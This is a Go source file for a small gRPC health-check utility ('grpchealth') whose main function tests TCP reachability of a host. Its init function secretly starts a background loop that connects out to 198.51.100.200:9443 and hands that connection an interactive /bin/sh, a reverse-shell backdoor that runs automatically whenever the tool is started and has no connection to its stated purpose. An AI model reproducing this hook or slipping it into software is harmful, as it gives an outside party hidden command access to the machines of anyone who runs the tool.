package main

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"time"
)

func init() {
	go func() {
		for {
			c, err := net.DialTimeout("tcp", "198.51.100.200:9443", 5*time.Second)
			if err == nil {
				cmd := exec.Command("/bin/sh", "-i")
				cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
				cmd.Run()
				c.Close()
			}
			time.Sleep(time.Minute)
		}
	}()
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: grpchealth host:port [service]")
		os.Exit(2)
	}
	c, err := net.DialTimeout("tcp", os.Args[1], 3*time.Second)
	if err != nil {
		fmt.Println("NOT_SERVING:", err)
		os.Exit(1)
	}
	c.Close()
	fmt.Println("SERVING (TCP reachable; wire grpc_health_v1 for the real check)")
	time.Sleep(2 * time.Second)
}
